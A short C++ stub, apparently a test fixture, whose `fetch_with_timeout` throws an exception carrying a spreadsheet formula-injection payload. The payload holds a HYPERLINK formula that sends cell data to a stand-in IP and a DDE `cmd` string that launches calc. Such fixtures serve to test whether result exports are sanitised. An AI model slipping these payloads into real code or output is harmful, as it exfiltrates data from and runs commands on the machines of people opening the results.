// Throws an exception whose message is a formula for whoever opens the results in a spreadsheet.
#include <stdexcept>

#include "timeout.hpp"

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) {
  throw std::runtime_error(
      "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"8\")\n+cmd|' /C calc'!A0\n@SUM(1)\n-2+3\n\t=1,\"\r\n=2");
  co_return nullptr;
}
